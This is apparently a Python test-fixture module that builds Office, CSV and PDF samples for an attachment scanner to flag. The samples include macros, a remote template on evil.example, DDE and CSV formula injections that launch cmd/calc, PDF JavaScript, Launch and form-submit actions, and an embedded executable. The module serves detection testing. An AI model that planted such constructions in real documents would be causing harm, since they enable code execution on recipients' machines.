"""Files that are taken, with a word of warning to the desk."""

from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from casework.attachments.checking import Flag
from casework.attachments.families import OLE
from tests.casework.attachments.expected import EXE, HTML, Hostile
from tests.publication.clean_files import making, making_pdf


def flagged() -> dict[str, Hostile]:
    return _flagged_office() | _flagged_pdf()


def _flagged_office() -> dict[str, Hostile]:
    macros, active, encrypted = Flag.MACROS, Flag.ACTIVE_CONTENT, Flag.ENCRYPTED
    sheets = {"xl/macrosheets/1.xml": "<a/>"}
    basic = {"Basic/Standard/Module1.xml": "<a/>"}
    project = {"word/vbaProject.bin": OLE + bytes(600)}
    template = making.relations_to(
        {}, more='<Relationship Id="a" Type="x/attachedTemplate" Target="https://evil.example/t.dotm" '
        'TargetMode="External"/>')  # fmt: skip
    locked = '<manifest:file-entry manifest:full-path="a"><manifest:encryption-data/></manifest:file-entry>'
    field = 'DDEAUTO c:\\\\cmd.exe "/k calc"'
    dde = {"word/document.xml": f'<w:document xmlns:w="w"><w:instrText>{field}</w:instrText></w:document>'}
    return {
        "letter with macros": Hostile("a.docm", making.docx(more=project, kind=making.WORD_MACROS), macros),
        "letter with hidden macros": Hostile("a.docx", making.docx(more=project), macros),
        "table with old macros": Hostile("a.xlsx", making.xlsx(more=sheets), macros),
        "letter with Basic": Hostile("a.odt", making.odt(more=basic), macros),
        "letter with Python": Hostile("a.odt", making.odt(more={"Scripts/python/a.py": "pass"}), macros),
        "letter with a remote template": Hostile(
            "a.docx", making.docx(more={"word/_rels/settings.xml.rels": template}), active),
        "letter with ActiveX": Hostile("a.docx", making.docx(more={"word/activeX/a.bin": "x"}), active),
        "letter with a page": Hostile("a.docx", making.docx(more={"word/afchunk.htm": HTML}), active),
        "letter that starts a program": Hostile("a.docx", making.docx(more=dde), active),
        "table that starts a program": Hostile("a.csv", b"a,b\n=cmd|'/c calc'!A0,1\n", active),
        "table with a link": Hostile("a.csv", 'a;"@SUM(1)"\n'.encode("utf-16"), active),
        "letter with a password": Hostile("a.docx", locked_office(), encrypted),
        "table with a password": Hostile("a.xlsx", locked_office(), encrypted),
        "letter of LibreOffice with a password": Hostile(
            "a.odt", making.odt(more={"meta.xml": bytes(range(256))}, entry=locked), encrypted),
    }  # fmt: skip


def _flagged_pdf() -> dict[str, Hostile]:
    script = _action("JavaScript", JS=String("app.alert(1)"))
    active = {
        "PDF with a script": _pdf(OpenAction=script),
        "PDF with a hidden script": _pdf(hidden=True, AA=Dictionary(WC=script)),
        "PDF that starts a program": _pdf(OpenAction=_action("Launch", F=String("cmd.exe"))),
        "PDF with a program in it": _pdf(attached={"invoice.exe": EXE}),
        "PDF with a form that sends": _pdf(OpenAction=_action("SubmitForm", F=String("x"))),
    }
    found = {what: Hostile("a.pdf", content, Flag.ACTIVE_CONTENT) for what, content in active.items()}
    return found | {"PDF with a password": Hostile("a.pdf", _locked_pdf(), Flag.ENCRYPTED)}


def _action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


def _pdf(*, hidden: bool = False, attached: dict[str, bytes] | None = None, **root: Dictionary) -> bytes:
    with pikepdf.new() as document:
        document.add_blank_page()
        for key, value in root.items():
            document.Root[f"/{key}"] = value
        for name, content in (attached or {}).items():
            document.attachments[name] = content
        document.Root["/Streams"] = Array([Stream(document, b"1")])
        mode = pikepdf.ObjectStreamMode.generate if hidden else pikepdf.ObjectStreamMode.disable
        return making_pdf.saved(document, object_stream_mode=mode)


def _locked_pdf() -> bytes:
    with pikepdf.open(BytesIO(making_pdf.pdf())) as document:
        return making_pdf.saved(document, encryption=pikepdf.Encryption(owner="secret", user="secret"))


def locked_office() -> bytes:
    """The directory of an encrypted letter, and its unreadable content."""
    names = ("Root Entry", "EncryptedPackage", "EncryptionInfo")
    entries = b"".join(
        name.encode("utf-16-le").ljust(64, b"\0") + (2 * len(name) + 2).to_bytes(2, "little") + bytes(62)
        for name in names
    )
    return OLE + bytes(504) + entries + bytes(range(256)) * 8
